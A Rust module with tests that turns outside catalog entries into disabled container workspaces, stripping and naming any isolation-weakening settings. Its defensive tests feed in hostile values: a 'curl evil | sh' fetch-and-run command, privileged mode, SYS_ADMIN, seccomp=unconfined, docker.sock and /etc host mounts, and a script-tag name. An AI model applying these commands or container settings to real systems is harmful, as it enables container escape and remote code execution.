//! What becomes of an entry of a catalog: the form of the workspace that it would be here, what was
//! left out of it, and why it may not be taken at all.
//!
//! Strangers wrote it. So it is told by what is taken over, which is a short list, and not by what is
//! refused; whatever else it says is named with the reason why it is left out. Nothing that weakens the
//! isolation of a session is ever on that list, and what comes of it nobody can launch until somebody
//! has enabled it.

use super::{
    here::{Here, begin, refusal_of, settle},
    list::Listed,
    options::{leave_out_rest, run_config},
    reference::reference,
    words::{LeftOut, QUOTED, SENTENCE, cut, flaw, shown},
};
use domain::{
    quantity::{self, MIB},
    workspace::{DefinitionFate, WorkspaceForm, check_name},
};

/// Most characters of a description; what a tile shows is shorter anyway.
const DESCRIPTION_LONGEST: usize = 300;
/// Most characters of notes, the line that says where they are from aside.
const NOTES_LONGEST: usize = 4000;

/// What becomes of an entry.
pub(super) struct Taken {
    pub form: WorkspaceForm,
    pub fate: DefinitionFate,
    /// A sentence each.
    pub left_out: Vec<String>,
    /// Why it may not be taken; nothing if it may.
    pub problems: Vec<String>,
    /// It is for other architectures than the engine's.
    pub elsewhere: bool,
    /// Another one before it has its name.
    pub twice: bool,
}

/// What taking an entry would do here.
pub(super) fn take(listed: &Listed, here: &Here<'_>) -> Taken {
    let (mut left_out, mut problems) = (LeftOut::default(), Vec::new());
    let name = check_name(&listed.name).unwrap_or_else(|why| {
        problems.push(why);
        String::new()
    });
    let texts = [("name", &listed.name), ("description", &listed.description)];
    let texts = texts.into_iter().chain(listed.categories.iter().map(|one| ("category", one)));
    for (what, text) in texts {
        let told = flaw(text).map(|flaw| format!("Its {what} has {flaw} in it."));
        // Once, however many categories have it.
        problems.extend(told.filter(|told| !problems.contains(told)));
    }
    let others = !listed.architectures.iter().any(|one| one == here.architecture);
    let elsewhere = others && !listed.architectures.is_empty() && !here.architecture.is_empty();
    let image = reference(listed).map_err(|why| problems.push(why)).ok();
    if let (Some(known), Some(image)) = (here.known, &image) {
        problems.extend(refusal_of(&known.definition, image));
    }
    let mut form = begin(image.as_ref(), here, &mut left_out);
    form.name = name;
    form.image = image.as_ref().map(ToString::to_string).unwrap_or_default();
    describe(listed, here, &mut form, &mut left_out);
    size(listed, &mut form, &mut left_out);
    run_config(&listed.run_config, &mut form, &mut left_out);
    leave_out_rest(listed, image.as_ref(), &mut left_out);
    let fate = match (problems.is_empty(), form.check()) {
        (false, _) => DefinitionFate::Refused,
        (true, Err(error)) => {
            problems.extend(error.fields.into_iter().map(|problem| problem.message));
            DefinitionFate::Refused
        }
        (true, Ok(definition)) => {
            settle(&definition, here, &mut form, &mut left_out, &mut problems)
        }
    };
    let problems = problems.iter().map(|why| shown(why, SENTENCE)).collect();
    let left_out = left_out.into_sentences();
    Taken { form, fate, left_out, problems, elsewhere, twice: false }
}

/// What people read of it.
fn describe(listed: &Listed, here: &Here<'_>, form: &mut WorkspaceForm, left_out: &mut LeftOut) {
    let description = shown(&listed.description, usize::MAX);
    if !description.is_empty() {
        form.description = cut(&description, DESCRIPTION_LONGEST);
        if form.description != description {
            let most = DESCRIPTION_LONGEST;
            left_out.own(format!("Its description is cut off after {most} characters."));
        }
    }
    if !listed.categories.is_empty() {
        form.categories = listed.categories.join(", ");
    }
    // Notes of a workspace that is here are its administrators' own.
    if here.known.is_some() {
        return;
    }
    form.notes = format!("From the catalog at {}.", here.address);
    let notes = listed.notes.trim();
    if let Some(flaw) = flaw(notes) {
        left_out.own(format!("Its notes have {flaw} in them and are not taken over."));
    } else if !notes.is_empty() {
        form.notes = format!("{}\n\n{}", form.notes, cut(notes, NOTES_LONGEST));
    }
    if !listed.icon.is_empty() {
        let icon = shown(&listed.icon, QUOTED);
        left_out.own(format!(
            "Its icon `{icon}` is at an address of its own and is not fetched. A picture can be uploaded in the form."
        ));
    }
}

/// Processors and memory.
fn size(listed: &Listed, form: &mut WorkspaceForm, left_out: &mut LeftOut) {
    if let Some(cores) = listed.cores {
        if (0.1..=256.0).contains(&cores) {
            form.cpus = quantity::cores((cores * 1000.0).round() as i64);
        } else {
            left_out.add(format!(
                "`cores: {cores}` is not taken over: between 0.1 and 256 are possible."
            ));
        }
    }
    if let Some(memory) = listed.memory_mb {
        // Decimal and binary megabytes are one here, as for engines.
        if (32.0..=1_048_576.0).contains(&memory) {
            form.memory = quantity::typed_bytes((memory * MIB as f64).round() as i64);
        } else {
            left_out.add(format!(
                "`memory: {memory}` is not taken over: it is in MB, and between 32 and 1048576 are possible."
            ));
        }
    }
}

/// What is said of an entry beside its name: categories, size, and what it is built for.
pub(super) fn facts(listed: &Listed) -> Vec<String> {
    let size = listed.size_mb.filter(|size| (1.0..1e9).contains(size));
    let size = size.map(|size| quantity::bytes((size * MIB as f64) as i64));
    let lists = [
        shown(&listed.categories.join(", "), QUOTED),
        shown(&listed.architectures.join(", "), QUOTED),
    ];
    let [categories, architectures] =
        lists.map(|list| Some(list).filter(|list: &String| !list.is_empty()));
    [categories, size, architectures].into_iter().flatten().collect()
}

#[cfg(test)]
mod tests {
    use super::{
        super::{list, words::NAMED},
        *,
    };
    use domain::{
        Timestamp, WorkspaceId,
        quantity::GIB,
        workspace::{Definition, Workspace},
    };
    use proptest::prelude::*;
    use serde_json::{Value, json};

    fn entry(entry: &Value) -> Listed {
        let text = json!({ "workspaces": [entry] }).to_string();
        list::read(text.as_bytes()).unwrap().entries.remove(0)
    }

    fn plain_entry() -> Value {
        json!({
            "friendly_name": "Firefox", "description": "A browser.", "image_src": "firefox.png",
            "architecture": ["amd64"], "categories": ["Browser"], "cores": 2, "memory": 2768,
            "docker_registry": "https://index.docker.io/v1/",
            "compatibility": [{"version": "1.17.x", "image": "kasmweb/firefox:1.17.0"}],
            "run_config": {"hostname": "kasm"},
        })
    }

    fn with(changes: Value) -> Listed {
        let mut all = plain_entry();
        let (Value::Object(all_of), Value::Object(changes)) = (&mut all, changes) else {
            panic!("an entry is an object")
        };
        all_of.extend(changes);
        entry(&all)
    }

    fn at<'a>(known: Option<&'a Workspace>) -> Here<'a> {
        Here { known, architecture: "amd64", address: "https://c.example" }
    }

    fn new(listed: &Listed) -> Taken {
        take(listed, &at(None))
    }

    fn definition(taken: &Taken) -> Definition {
        assert_eq!(taken.problems, Vec::<String>::new());
        taken.form.check().unwrap()
    }

    fn here(definition: Definition) -> Workspace {
        Workspace {
            id: "w1".parse::<WorkspaceId>().unwrap(),
            definition,
            pin: None,
            trial_of: None,
            revision: 1,
            created_at: Timestamp(0),
            updated_at: Timestamp(0),
        }
    }

    #[test]
    fn an_entry_becomes_a_disabled_workspace_of_its_family() {
        let taken = new(&entry(&plain_entry()));
        assert_eq!(taken.fate, DefinitionFate::New);
        let made = definition(&taken);
        assert_eq!((made.name.as_str(), made.enabled), ("Firefox", false));
        assert_eq!(made.image.to_string(), "kasmweb/firefox:1.17.0");
        assert_eq!((made.cpu_millis, made.memory_bytes), (2000, 2768 * MIB));
        assert_eq!(
            (made.contract.port, made.categories.as_slice()),
            (6901, &["Browser".to_owned()][..])
        );
        assert_eq!(made.confinement.options.hostname.as_deref(), Some("kasm"));
        assert_eq!(made.groups, ["administrators".parse().unwrap()]);
        assert_eq!(made.notes, "From the catalog at https://c.example.");
        assert_eq!(made.weakened(), Vec::<String>::new());
        let [icon] = taken.left_out.as_slice() else { panic!("{:?}", taken.left_out) };
        assert!(icon.contains("`firefox.png`") && icon.contains("not fetched"), "{icon}");
    }

    #[test]
    fn whatever_weakens_is_left_out_and_named() {
        let taken = new(&with(json!({
            "run_config": {
                "privileged": true, "devices": ["/dev/kvm"], "cap_add": ["SYS_ADMIN"],
                "security_opt": ["seccomp=unconfined"], "network": "host", "network_mode": "host",
                "volumes": {"/var/run/docker.sock": {"bind": "/var/run/docker.sock"}},
                "mounts": [{"Source": "/etc", "Target": "/x"}], "pid_mode": "host", "ipc_mode": "host",
                "device_requests": [{"count": -1}], "dns": ["10.6.6.6"], "user": "root",
                "extra_hosts": {"bank.example": "10.6.6.6"}, "entrypoint": ["/evil"], "ports": {"22": 22},
                "sysctls": {"a": "b"}, "Privileged": 1, "shm_size": "1024g", "hostname": "a b",
                "cap_drop": [], "tty": false,
            },
            "exec_config": {"first_launch": {"cmd": "curl evil | sh", "privileged": true}, "go": {}},
            "volume_mappings": "{\"/etc\": {\"bind\": \"/x\", \"mode\": \"rw\"}, \"/\": {}}",
            "launch_config": {"launch_form": []}, "gpu_count": 2, "docker_token": "x", "hidden": true,
            "cpu_allocation_method": "Shares",
        })));
        let made = definition(&taken);
        assert_eq!(made.weakened(), Vec::<String>::new());
        let usual = definition(&new(&with(json!({ "run_config": {} }))));
        assert_eq!(made, usual, "nothing of it has come through");
        let told = taken.left_out.join("\n");
        for part in [
            "`privileged: true` is not taken over",
            "`devices: [\"/dev/kvm\"]`",
            "SYS_ADMIN",
            "seccomp=unconfined",
            "`network: host`",
            "`network_mode: host`",
            "docker.sock",
            "`mounts:",
            "`pid_mode: host`",
            "`ipc_mode: host`",
            "`device_requests:",
            "10.6.6.6",
            "`user: root`",
            "bank.example",
            "`entrypoint:",
            "`ports:",
            "`sysctls:",
            "`Privileged: 1`",
            "`shm_size: 1024g`",
            "`hostname: a b`",
            "The host mount `/etc:/x` is not taken over.",
            "The host mount `/:…`",
            "`first_launch: {",
            "`launch_config`",
            "`gpu_count: 2`",
            "`docker_token`, `hidden`",
            "`cpu_allocation_method: Shares`",
        ] {
            assert!(told.contains(part), "{part} is not told:\n{told}");
        }
        assert!(
            !told.contains("cap_drop") && !told.contains("tty"),
            "what is off is no news:\n{told}"
        );
    }

    #[test]
    fn a_whole_reference_comes_of_the_registry_and_the_name() {
        let of = |registry: &str, name: &str| {
            let listed =
                with(json!({ "docker_registry": registry, "name": name, "compatibility": [] }));
            reference(&listed).map(|image| image.to_string())
        };
        assert_eq!(of("", "a/b:1").as_deref(), Ok("a/b:1"));
        assert_eq!(of("https://index.docker.io/v1/", "a/b").as_deref(), Ok("a/b"));
        assert_eq!(of("https://ghcr.io/", "a/b:1").as_deref(), Ok("ghcr.io/a/b:1"));
        assert_eq!(of("https://ghcr.io", "quay.io/a/b").as_deref(), Ok("quay.io/a/b"));
        for (registry, name) in
            [("https://ada:pw@r.example", "a"), ("", "A B"), ("", ""), ("", "-")]
        {
            assert!(of(registry, name).is_err(), "{registry} {name}");
        }
        let other =
            new(&with(json!({ "docker_registry": "https://ghcr.io", "name": "quay.io/a/b",
            "compatibility": [] })));
        assert!(
            other.left_out.iter().any(|one| one.contains("leads to quay.io")),
            "{:?}",
            other.left_out
        );
    }

    #[test]
    fn what_cannot_be_a_workspace_is_refused_with_the_reason() {
        let long = "x".repeat(81);
        for (changes, part) in [
            (json!({ "friendly_name": "" }), "Give the workspace a name"),
            (json!({ "friendly_name": 5 }), "Give the workspace a name"),
            (json!({ "friendly_name": long }), "at most 80 characters"),
            (json!({ "friendly_name": "<script>alert(1)</script>" }), "Its name has HTML"),
            (json!({ "friendly_name": "Desk\u{202e}top" }), "cannot be seen"),
            (json!({ "friendly_name": "Desk\u{7}top" }), "cannot be seen"),
            (json!({ "description": "a <b>bold</b> one" }), "Its description has HTML"),
            (json!({ "categories": ["<i>"] }), "Its category has HTML"),
            (json!({ "categories": ["x".repeat(41)] }), "at most 40 characters"),
            (json!({ "compatibility": [] }), "names no image"),
            (json!({ "compatibility": [{"image": "Not An Image"}] }), "lower case"),
            (
                json!({ "compatibility": [{"image": "a"}], "docker_registry": "no registry" }),
                "leads to no registry",
            ),
            (json!({ "categories": ["a", "b", "c", "d", "e", "f", "g", "h", "i"] }), "At most 8"),
        ] {
            let taken = new(&with(changes.clone()));
            assert_eq!(taken.fate, DefinitionFate::Refused, "{changes}");
            assert!(taken.problems.join("\n").contains(part), "{changes}: {:?}", taken.problems);
        }
        let fine = new(&with(json!({ "architecture": [], "description": "1 < 2 & 3 > 2" })));
        assert_eq!(definition(&fine).description, "1 < 2 & 3 > 2");
    }

    #[test]
    fn what_is_too_long_or_out_of_bounds_is_left_out_and_the_rest_taken() {
        let taken = new(&with(json!({
            "description": "word ".repeat(100), "notes": "Read\n<b>this</b>", "cores": 0, "memory": 2_768_000_000_u64,
        })));
        let made = definition(&taken);
        assert!(made.description.ends_with('…') && made.description.chars().count() <= 300);
        assert_eq!((made.cpu_millis, made.memory_bytes), (2000, 3 * GIB), "as the family has it");
        assert_eq!(made.notes, "From the catalog at https://c.example.");
        let told = taken.left_out.join("\n");
        for part in ["cut off", "notes have HTML", "`cores: 0`", "it is in MB"] {
            assert!(told.contains(part), "{part}: {told}");
        }
        let keys: serde_json::Map<String, Value> =
            (0..100).map(|n| (format!("key{n}"), json!("x".repeat(500)))).collect();
        let many = new(&with(json!({ "run_config": keys })));
        // The icon, and how many more there are.
        assert_eq!(many.left_out.len(), NAMED + 2);
        assert!(many.left_out.iter().all(|one| one.chars().count() < 300));
        assert!(many.left_out.last().unwrap().contains("60 more things"));
    }

    #[test]
    fn what_would_weaken_is_named_before_what_is_only_unknown() {
        let mut keys: serde_json::Map<String, Value> =
            (0..100).map(|n| (format!("key{n}"), json!("x"))).collect();
        keys.extend([("privileged".to_owned(), json!(true)), ("Zz".to_owned(), json!("x"))]);
        let taken = new(&with(json!({
            "run_config": keys, "volume_mappings": {"/etc": {"bind": "/x"}}, "notes": "<b>",
            "compatibility": [{"image": "example/app:1"}],
        })));
        let told = taken.left_out.join("\n");
        for part in ["`privileged: true`", "`/etc:/x`", "under Connection", "notes have HTML"] {
            assert!(told.contains(part), "{part}: {told}");
        }
    }

    #[test]
    fn a_list_of_flaws_is_told_once_and_no_word_of_it_steers_the_page() {
        let many: Vec<String> = (0..100_000).map(|n| format!("<a{n}")).collect();
        let taken = new(&with(json!({ "categories": many })));
        assert_eq!(taken.problems, ["Its category has HTML in it."]);
        let odd = "x\u{202e}".repeat(5000);
        for changes in [
            json!({ "friendly_name": odd.clone() }),
            json!({ "compatibility": [{"image": odd.clone()}] }),
            json!({ "docker_registry": odd.clone(), "compatibility": [{"image": "a"}] }),
            json!({ "categories": [odd.clone()] }),
        ] {
            let taken = new(&with(changes));
            assert!(!taken.problems.is_empty() && taken.problems.len() < 4);
            for why in &taken.problems {
                assert!(
                    !why.contains(domain::hidden::is_hidden) && why.chars().count() <= 300,
                    "{why}"
                );
            }
        }
    }

    #[test]
    fn what_the_engine_could_not_run_is_told_apart() {
        let of = |architectures: Value, engine: &str| {
            let listed = with(json!({ "architecture": architectures }));
            take(&listed, &Here { architecture: engine, ..at(None) }).elsewhere
        };
        assert!(of(json!(["arm64", "riscv64"]), "amd64"));
        assert!(!of(json!(["arm64", "amd64"]), "amd64") && !of(json!([]), "amd64"));
        assert!(!of(json!(["arm64"]), ""), "nobody knows what the engine runs");
    }

    #[test]
    fn a_family_that_needs_capabilities_goes_without_and_says_so() {
        let image = json!({ "compatibility": [{"image": "lscr.io/linuxserver/webtop:latest"}] });
        let taken = new(&with(image));
        let made = definition(&taken);
        assert_eq!((made.contract.port, made.contract.capabilities.len()), (3000, 0));
        assert!(taken.left_out[0].contains("SETUID"), "{:?}", taken.left_out);
        let unknown = new(&with(json!({ "compatibility": [{"image": "example/app:1"}] })));
        assert!(unknown.left_out[0].contains("under Connection"), "{:?}", unknown.left_out);
        assert!(!definition(&unknown).enabled);
        let image = json!({ "compatibility": [{"image": "lscr.io/linuxserver/nginx:latest"}] });
        assert!(new(&with(image)).left_out[0].contains("not known for certain"));
    }

    #[test]
    fn what_is_here_keeps_what_the_catalog_says_nothing_of() {
        let listed = entry(&plain_entry());
        let mut mine = definition(&new(&listed));
        mine.enabled = true;
        mine.groups = vec!["everybody".parse().unwrap()];
        mine.notes = "Ours.".into();
        mine.environment = vec![("TZ".into(), "UTC".into()), ("LANG".into(), "C".into())];
        let known = here(mine.clone());
        assert_eq!(take(&listed, &at(Some(&known))).fate, DefinitionFate::Unchanged);

        let newer = with(json!({
            "compatibility": [{"image": "kasmweb/firefox:1.18.0"}],
            "run_config": {"hostname": "kasm", "environment": {"LANG": "de", "MORE": 1}},
        }));
        let taken = take(&newer, &at(Some(&known)));
        assert_eq!(taken.fate, DefinitionFate::Changed);
        let changed = definition(&taken);
        let expected = Definition {
            image: "kasmweb/firefox:1.18.0".parse().unwrap(),
            environment: vec![
                ("TZ".into(), "UTC".into()),
                ("LANG".into(), "C".into()),
                ("MORE".into(), "1".into()),
            ],
            enabled: false,
            ..mine
        };
        assert_eq!(changed, expected);
        let told = taken.left_out.join("\n");
        assert!(told.contains("disabled by this") && told.contains("`LANG`"), "{told}");
        let again = take(&newer, &at(Some(&here(changed))));
        assert_eq!(again.fate, DefinitionFate::Unchanged);
    }

    #[test]
    fn a_name_alone_does_not_give_another_image_what_is_here() {
        let mut mine = definition(&new(&entry(&plain_entry())));
        mine.environment = vec![("DB_PASSWORD".into(), "secret".into())];
        mine.image = "ours/desktop:1".parse().unwrap();
        let known = here(mine);
        let taken = take(&entry(&plain_entry()), &at(Some(&known)));
        assert_eq!(taken.fate, DefinitionFate::Refused);
        let [why] = taken.problems.as_slice() else { panic!("{:?}", taken.problems) };
        assert!(
            why.contains("with another image, `ours/desktop:1`. Rename it here first."),
            "{why}"
        );
    }

    /// Everything that a `run_config` is known to say, and some that it is not.
    const KEYS: [&str; 24] = [
        "privileged",
        "Privileged",
        "cap_add",
        "CapAdd",
        "security_opt",
        "devices",
        "device_requests",
        "network",
        "network_mode",
        "pid_mode",
        "ipc_mode",
        "userns_mode",
        "cgroup_parent",
        "group_add",
        "volumes",
        "mounts",
        "binds",
        "ports",
        "user",
        "entrypoint",
        "command",
        "shm_size",
        "hostname",
        "environment",
    ];

    proptest! {
        #[test]
        fn whatever_a_run_config_says_weakens_nothing(
            said in prop::collection::vec((prop::sample::select(&KEYS[..]), 0..4_usize, "[ -~]{0,20}"), 1..6),
            is_here in any::<bool>(),
        ) {
            let settings: serde_json::Map<String, Value> = said.into_iter().map(|(key, shape, text)| {
                let value = match shape {
                    0 => json!(true),
                    1 => json!([text]),
                    2 => json!({text.clone(): text}),
                    _ => json!(text),
                };
                (key.to_owned(), value)
            }).collect();
            let usual = definition(&new(&with(json!({ "run_config": {} }))));
            let known = here(usual.clone());
            let listed = with(json!({ "run_config": settings.clone(), "exec_config": settings }));
            let taken = take(&listed, &at(Some(&known).filter(|_| is_here)));
            let made = taken.form.check();
            prop_assert!(made.is_ok(), "{:?}", made);
            let mut made = made.unwrap();
            prop_assert_eq!(made.weakened(), Vec::<String>::new());
            // What may differ, and nothing else.
            made.environment.clear();
            made.confinement.options.hostname = None;
            made.shm_bytes = usual.shm_bytes;
            prop_assert_eq!(made, usual);
        }

        #[test]
        fn no_text_makes_the_taking_panic(a in "\\PC{0,60}", b in "(?s).{0,60}") {
            let _ = new(&with(json!({
                "friendly_name": a, "description": b, "categories": b, "docker_registry": a, "notes": b,
                "compatibility": [{"image": a}], "volume_mappings": {a.clone(): {"bind": b}},
                "run_config": {"environment": {a.clone(): b}, "shm_size": a, "hostname": b},
            })));
        }
    }
}
